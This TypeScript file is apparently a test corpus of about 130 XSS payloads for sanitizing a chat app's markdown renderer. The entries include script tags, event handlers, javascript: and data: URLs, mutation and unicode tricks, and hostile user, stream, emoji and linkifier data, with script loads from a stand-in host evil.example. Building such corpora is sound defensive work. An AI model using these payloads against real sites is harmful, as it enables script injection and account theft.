import type { RenderContext } from './types';

/** One hostile input: message content plus, where the attack is in realm data, that data. */
export interface XssVector {
  name: string;
  content: string;
  context?: Partial<RenderContext>;
}

const evilUser = (fullName: string): Partial<RenderContext> => ({ users: [{ id: 66, fullName }] });
const evilLinkifier = (pattern: string, urlTemplate: string): Partial<RenderContext> => ({
  linkifiers: [{ pattern, urlTemplate }],
});

const scriptTags: XssVector[] = [
  { name: 'plain script', content: '<script>alert(1)</script>' },
  { name: 'upper-case script', content: '<SCRIPT>alert(1)</SCRIPT>' },
  { name: 'mixed-case script', content: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'script src', content: '<script src=//evil.example/x.js></script>' },
  { name: 'split script', content: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script with newline', content: '<script\n>alert(1)</script\n>' },
  { name: 'script with slash attr', content: '<script/xss src=//evil.example/x.js></script>' },
  { name: 'closing then opening', content: '</script><script>alert(1)</script>' },
  { name: 'double angle', content: '<<script>script>alert(1)<</script>/script>' },
  { name: 'script in list item', content: '- <script>alert(1)</script>' },
  { name: 'script in quote', content: '> <script>alert(1)</script>' },
  { name: 'script in table cell', content: '| a |\n|---|\n| <script>alert(1)</script> |' },
  { name: 'script in spoiler header', content: '```spoiler <script>alert(1)</script>\nx\n```' },
  { name: 'script as fence language', content: '```<script>alert(1)</script>\nx\n```' },
  { name: 'script in link text', content: '[<script>alert(1)</script>](https://example.com)' },
  { name: 'script in link title', content: '[a](https://example.com "<script>alert(1)</script>")' },
  { name: 'script in emphasis', content: '**<script>alert(1)</script>**' },
];

const eventHandlers: XssVector[] = [
  { name: 'img onerror', content: '<img src=x onerror=alert(1)>' },
  { name: 'upper-case onerror', content: '<IMG SRC=x OnErRoR=alert(1)>' },
  { name: 'body onload', content: '<body onload=alert(1)>' },
  { name: 'div onmouseover', content: '<div onmouseover="alert(1)">hover</div>' },
  { name: 'a onclick', content: '<a href="https://example.com" onclick="alert(1)">x</a>' },
  { name: 'svg onload', content: '<svg onload=alert(1)>' },
  { name: 'details ontoggle', content: '<details open ontoggle=alert(1)>' },
  { name: 'input onfocus', content: '<input autofocus onfocus=alert(1)>' },
  { name: 'video source onerror', content: '<video><source onerror=alert(1)></video>' },
  { name: 'marquee onstart', content: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'eval from src', content: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { name: 'unknown element onclick', content: '<x onclick=alert(1)>click' },
  { name: 'slashes as separators', content: '<img/src=x/onerror=alert(1)>' },
  { name: 'newline before =', content: '<img src="x" onerror\n=alert(1)>' },
  { name: 'attribute breakout', content: '"><img src=x onerror=alert(1)>' },
  {
    name: 'handler in markdown link title',
    content: '[a](https://example.com "x\\" onmouseover=\\"alert(1)")',
  },
];

const schemeUrls: XssVector[] = [
  { name: 'javascript link', content: '[x](javascript:alert(1))' },
  { name: 'mixed-case javascript', content: '[x](JaVaScRiPt:alert(1))' },
  { name: 'entity colon', content: '[x](javascript&#58;alert(1))' },
  { name: 'hex entity colon', content: '[x](javascript&#x3A;alert(1))' },
  { name: 'entity first letter', content: '[x](&#106;avascript:alert(1))' },
  { name: 'tab inside scheme', content: '[x](java\tscript:alert(1))' },
  { name: 'encoded newline in scheme', content: '[x](java%0ascript:alert(1))' },
  { name: 'control character before scheme', content: '[x](\u0001javascript:alert(1))' },
  { name: 'angle-bracket destination', content: '[x](<javascript:alert(1)>)' },
  { name: 'vbscript link', content: '[x](vbscript:msgbox(1))' },
  {
    name: 'data html base64',
    content: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  },
  { name: 'upper-case data', content: '[x](DATA:text/html,<script>alert(1)</script>)' },
  { name: 'data svg', content: '[x](data:image/svg+xml,<svg onload=alert(1)>)' },
  { name: 'javascript image', content: '![x](javascript:alert(1))' },
  { name: 'data image', content: '![x](data:image/png;base64,iVBORw0KGgo=)' },
  { name: 'javascript image with png suffix', content: '![x](javascript:alert(1)//.png)' },
  { name: 'javascript autolink', content: '<javascript:alert(1)>' },
  { name: 'vbscript autolink', content: '<vbscript:msgbox(1)>' },
  { name: 'bare javascript text', content: 'javascript:alert(1)' },
  { name: 'reference-style javascript', content: '[click][x]\n\n[x]: javascript:alert(1)' },
  { name: 'javascript comment trick', content: '[x](javascript://%0aalert(1))' },
  { name: 'entity tab in scheme', content: '[x](jav&#x09;ascript:alert(1))' },
  { name: 'backslash before scheme', content: '[x](\\javascript:alert(1))' },
  {
    name: 'double-quote breakout in href',
    content: '[a](https://example.com/"onmouseover="alert(1))',
  },
  {
    name: 'single-quote breakout in href',
    content: "[a](https://example.com/'onmouseover='alert(1))",
  },
  { name: 'protocol-relative javascript', content: '[x](//javascript:alert(1))' },
  { name: 'file URL', content: '[x](file:///etc/passwd)' },
  { name: 'javascript with leading spaces', content: '[x](   javascript:alert(1))' },
  {
    name: 'image preview with injected quote',
    content: 'https://example.com/a.png"onerror="alert(1).png',
  },
];

const foreignMarkup: XssVector[] = [
  { name: 'svg script', content: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'svg xlink',
    content: '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  },
  {
    name: 'mathml mutation',
    content: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  },
  { name: 'math href', content: '<math href="javascript:alert(1)">x</math>' },
  { name: 'iframe javascript', content: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', content: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'object data', content: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed src', content: '<embed src="javascript:alert(1)">' },
  { name: 'style import', content: "<style>@import 'javascript:alert(1)';</style>" },
  { name: 'style attribute', content: '<div style="background:url(javascript:alert(1))">x</div>' },
  { name: 'link stylesheet', content: '<link rel=stylesheet href=javascript:alert(1)>' },
  {
    name: 'meta refresh',
    content: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  },
  { name: 'base href', content: '<base href="javascript:alert(1)//">' },
  { name: 'form action', content: '<form action="javascript:alert(1)"><button>x</button></form>' },
];

const malformed: XssVector[] = [
  { name: 'split attribute quote', content: '<img src="x` `<script>alert(1)</script>"` `>' },
  { name: 'double open angle', content: '<<img src=x onerror=alert(1)//>' },
  { name: 'comment confusion', content: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'cdata', content: '<![CDATA[<script>alert(1)</script>]]>' },
  {
    name: 'noscript title',
    content: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  { name: 'title element', content: '<title><img src=x onerror=alert(1)></title>' },
  { name: 'textarea', content: '<textarea><img src=x onerror=alert(1)></textarea>' },
  { name: 'nul in scheme', content: '<a href="javas\u0000cript:alert(1)">x</a>' },
  { name: 'unclosed img', content: '<img src=x onerror=alert(1)' },
  { name: 'misnested', content: '<div><p></div><img src=x onerror=alert(1)>' },
  { name: 'processing instruction', content: '<?xml version="1.0"?><script>alert(1)</script>' },
  { name: 'html inside code span', content: '`<script>alert(1)</script>`' },
  { name: 'html inside code block', content: '```html\n<script>alert(1)</script>\n```' },
];

const unicodeTricks: XssVector[] = [
  { name: 'rtl override in URL', content: '[x](https://example.com/\u202Egnp.exe)' },
  { name: 'rtl override before script', content: '\u202E<script>alert(1)</script>' },
  { name: 'zero-width space in scheme', content: '[x](java\u200Bscript:alert(1))' },
  { name: 'soft hyphen in scheme', content: '[x](java\u00ADscript:alert(1))' },
  { name: 'fullwidth colon', content: '[x](javascript\uFF1Aalert(1))' },
  { name: 'cyrillic homoglyph scheme', content: '[x](j\u0430vascript:alert(1))' },
  {
    name: 'fullwidth scheme',
    content: '[x](\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54:alert(1))',
  },
  { name: 'byte order mark before script', content: '\uFEFF<script>alert(1)</script>' },
  { name: 'dotless i in script', content: '<scr\u0131pt>alert(1)</scr\u0131pt>' },
  { name: 'line separator before scheme', content: '[x](\u2028javascript:alert(1))' },
  { name: 'rtl override in mention', content: '@**\u202Eevil**', context: evilUser('\u202Eevil') },
  { name: 'zero-width joiner in tag', content: '<scr\u200Dipt>alert(1)</scr\u200Dipt>' },
];

const realmData: XssVector[] = [
  {
    name: 'user name with img',
    content: '@**<img src=x onerror=alert(1)>**',
    context: evilUser('<img src=x onerror=alert(1)>'),
  },
  {
    name: 'silent mention with img',
    content: '@_**<img src=x onerror=alert(1)>**',
    context: evilUser('<img src=x onerror=alert(1)>'),
  },
  {
    name: 'user name breaking out of attribute',
    content: '@**|66**',
    context: evilUser('"><script>alert(1)</script>'),
  },
  {
    name: 'group name with script',
    content: '@*<script>alert(1)</script>*',
    context: { userGroups: [{ id: 4, name: '<script>alert(1)</script>' }] },
  },
  {
    name: 'stream name with svg',
    content: '#**<svg onload=alert(1)>**',
    context: { streams: [{ id: 4, name: '<svg onload=alert(1)>' }] },
  },
  {
    name: 'stream topic with img',
    content: '#**design><img src=x onerror=alert(1)>**',
    context: { streams: [{ id: 9, name: 'design' }] },
  },
  {
    name: 'stream name with quote',
    content: '#**a" onmouseover="alert(1)**',
    context: { streams: [{ id: 5, name: 'a" onmouseover="alert(1)' }] },
  },
  {
    name: 'realm emoji javascript source',
    content: ':evil:',
    context: { realmEmoji: [{ id: 1, name: 'evil', sourceUrl: 'javascript:alert(1)' }] },
  },
  {
    name: 'realm emoji data source',
    content: ':evil:',
    context: {
      realmEmoji: [{ id: 1, name: 'evil', sourceUrl: 'data:image/svg+xml,<svg onload=alert(1)>' }],
    },
  },
  {
    name: 'realm emoji source breakout',
    content: ':evil:',
    context: {
      realmEmoji: [
        { id: 1, name: 'evil', sourceUrl: 'https://example.com/a.png" onerror="alert(1)' },
      ],
    },
  },
  { name: 'emoji name with html', content: ':<img src=x onerror=alert(1)>:' },
  { name: 'autolink breakout', content: '<https://example.com/"onmouseover="alert(1)>' },
  { name: 'bare URL with script', content: 'https://example.com/<script>alert(1)</script>' },
  { name: 'www link breakout', content: 'www.example.com/"><script>alert(1)</script>' },
  { name: 'mailto with script', content: '<mailto:a@example.com?body=<script>alert(1)</script>>' },
  {
    name: 'mention inside link text',
    content: '[@**<b>x</b>**](javascript:alert(1))',
    context: evilUser('<b>x</b>'),
  },
];

const linkifierTemplates: XssVector[] = [
  {
    name: 'javascript template',
    content: '#1',
    context: evilLinkifier('#(?<id>\\d+)', 'javascript:alert({id})'),
  },
  {
    name: 'data template',
    content: '#1',
    context: evilLinkifier('#(?<id>\\d+)', 'data:text/html,<script>alert({id})</script>'),
  },
  {
    name: 'vbscript template',
    content: '#1',
    context: evilLinkifier('#(?<id>\\d+)', 'vbscript:msgbox({id})'),
  },
  {
    name: 'value with attribute breakout',
    content: '#"><script>alert(1)</script>',
    context: evilLinkifier('#(?<id>\\S+)', 'https://example.com/{id}'),
  },
  {
    name: 'reserved expansion of javascript',
    content: 'go:javascript:alert(1)',
    context: evilLinkifier('go:(?<id>\\S+)', '{+id}'),
  },
  {
    name: 'reserved expansion breakout',
    content: 'go:"onmouseover="alert(1)',
    context: evilLinkifier('go:(?<id>\\S+)', 'https://example.com/{+id}'),
  },
  {
    name: 'template with leading spaces',
    content: '#1',
    context: evilLinkifier('#(?<id>\\d+)', '  javascript:alert({id})'),
  },
  {
    name: 'template with tab in scheme',
    content: '#1',
    context: evilLinkifier('#(?<id>\\d+)', 'java\tscript:alert({id})'),
  },
  {
    name: 'value as host',
    content: 'h:javascript:alert(1)',
    context: evilLinkifier('h:(?<id>\\S+)', 'https://{id}'),
  },
  {
    name: 'pattern matching a tag',
    content: 'see <script>',
    context: evilLinkifier('(?<id><script>)', 'https://example.com/{id}'),
  },
  {
    name: 'template entity-encoded scheme',
    content: '#1',
    context: evilLinkifier('#(?<id>\\d+)', 'javascript&#58;alert({id})'),
  },
];

export const xssCorpus: readonly XssVector[] = [
  ...scriptTags,
  ...eventHandlers,
  ...schemeUrls,
  ...foreignMarkup,
  ...malformed,
  ...unicodeTricks,
  ...realmData,
  ...linkifierTemplates,
];
